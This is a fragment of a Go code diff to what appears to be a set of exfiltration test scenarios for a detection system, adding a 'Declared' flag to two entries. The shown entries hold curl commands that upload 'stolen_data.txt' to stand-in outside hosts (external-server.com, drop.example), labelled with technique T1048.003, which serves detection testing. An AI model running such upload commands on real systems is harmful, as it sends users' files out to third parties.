@@ -7,7 +7,7 @@ func uploads() []Scenario {
 			Name:      "http_put",
 			Summary:   "IcedID's HTTP PUT, as the ADS validates it",
 			Command:   `curl --upload-file stolen_data.txt http://external-server.com/upload`,
-			Technique: "T1048.003", Process: "/usr/bin/curl",
+			Technique: "T1048.003", Process: "/usr/bin/curl", Declared: true,
 		},
 		{
 			Name:    "ftp_put",
@@ -39,7 +39,7 @@ EOF`,
 			Name:      "h2_put",
 			Summary:   "HTTP/2 PUT in cleartext, with prior knowledge",
 			Command:   `curl --silent --http2-prior-knowledge --upload-file stolen_data.txt http://drop.example/upload`,
-			Technique: "T1048.003", Process: "/usr/bin/curl",
+			Technique: "T1048.003", Process: "/usr/bin/curl", Declared: true,
 		},
 		{
 			Name:      "https_put",
